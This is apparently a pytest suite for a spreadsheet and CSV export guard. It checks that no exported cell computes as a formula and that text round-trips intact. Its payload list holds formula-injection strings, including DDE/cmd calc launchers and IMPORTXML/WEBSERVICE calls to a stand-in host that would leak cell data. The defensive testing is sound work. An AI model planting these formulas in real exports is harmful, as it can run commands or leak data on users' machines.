"""Nothing that leaves as a file computes, and what comes back is what went out."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.tables.safe import clean, dangerous, harmless, plain
from common.tables.sheet import Column
from common.tables.writing import Paper, text_file, workbook

OPENS = "=+-@\t\r\n＝＋－＠"
PAYLOADS = [
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C calc'!A1", "=HYPERLINK(\"http://x.invalid\",\"点这里\")",
    "=IMPORTXML(CONCAT(\"http://x.invalid/?v=\",A1),\"//a\")", "=IMPORTDATA(\"http://x.invalid\")",
    "=WEBSERVICE(\"http://x.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=SUM(A1:A9)", "=A1", "==1", "=\"a\"&B2", "={1,2}", "+1+1",
    "+cmd|' /C calc'!A0", "+HYPERLINK(\"x\")", "++1", "-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", "--1", "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1",
    "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "\ufeff=1+1", " '=1+1",
    "=1+1\";=1+1", "\"=1+1\"", "#N/A", "#REF!", "TRUE", "1e5", "_x003D_1+1", "0012", "=" * 300,
]  # fmt: skip
COLUMNS = (Column("a", "甲"), Column("b", "=乙"), Column("n", "数", "number"))
PAPER = Paper("=标题", ("-1", "+说明"), "=某人 & 导出")


def as_workbook(texts: list[str]) -> Any:
    return load_workbook(workbook(PAPER, COLUMNS, [{"a": text, "b": text, "n": text} for text in texts])).active


def body(sheet: Any) -> list[Any]:
    return list(sheet.iter_rows(min_row=len(PAPER.lines) + 3))


def test_there_are_enough_payloads() -> None:
    assert len({*PAYLOADS}) >= 40


def test_no_payload_computes_in_a_workbook_and_each_comes_back() -> None:
    sheet = as_workbook(PAYLOADS)
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    for text, row in zip(PAYLOADS, body(sheet), strict=True):
        assert not str(row[0].value).lstrip(" \u00a0\u3000\ufeff").startswith(tuple(OPENS)), text
        assert plain(row[0].value) == clean(text)


def test_the_file_itself_holds_no_formula() -> None:
    with zipfile.ZipFile(workbook(PAPER, COLUMNS, [{"a": text} for text in PAYLOADS])) as archive:
        whole = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets"))
    assert "<f>" not in whole
    assert "<f " not in whole


def test_without_the_guard_a_workbook_would_compute() -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = PAYLOADS[0]
    assert book.active["A1"].data_type == "f"


def test_no_payload_computes_in_a_text_file_and_each_comes_back() -> None:
    text = "".join(text_file(COLUMNS, [{"a": text} for text in PAYLOADS]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert [plain(row[0]) for row in rows] == [clean(text) for text in PAYLOADS]
    assert not any(row[0].startswith(tuple(OPENS)) for row in rows)


@settings(max_examples=2000, deadline=None)
@given(st.one_of(st.text(), st.text(alphabet=st.sampled_from(OPENS + "' \u3000a1")).map(lambda text: text)))
def test_any_text_is_made_harmless_and_comes_back(text: str) -> None:
    made = harmless(text)
    assert plain(made) == clean(text)
    assert not made.startswith(tuple(OPENS))
    assert made == clean(text) or made.startswith("'")
    assert dangerous(clean(text)) == (made != clean(text))


@settings(max_examples=20, deadline=None)
@given(st.lists(st.text(min_size=1).filter(clean), min_size=100, max_size=100))
def test_two_thousand_texts_come_back_from_a_workbook(texts: list[str]) -> None:
    sheet = as_workbook(texts)
    for text, row in zip(texts, body(sheet), strict=True):
        assert plain(row[0].value or "") == clean(text)
        assert {cell.data_type for cell in row} <= {"s", "n"}


@pytest.mark.parametrize(("text", "kind"), [("48", "n"), ("0048", "n"), ("4８", "s"), ("=4", "s"), ("9" * 16, "s")])
def test_only_what_counts_is_a_number(text: str, kind: str) -> None:
    assert body(as_workbook([text]))[0][2].data_type == kind


def test_the_sheet_can_be_read_on_screen_and_on_paper() -> None:
    sheet = as_workbook(["x"])
    assert sheet.freeze_panes == "A5"
    assert sheet["A1"].value == "'=标题"
    assert (sheet["B4"].value, sheet["A4"].font.bold) == ("'=乙", True)
    assert sheet.column_dimensions["A"].width == 18
    assert sheet.print_title_rows in ("$4:$4", "4:4")
    assert sheet.oddHeader.right.text == "=某人 && 导出"
    assert sheet.page_setup.orientation == "landscape"
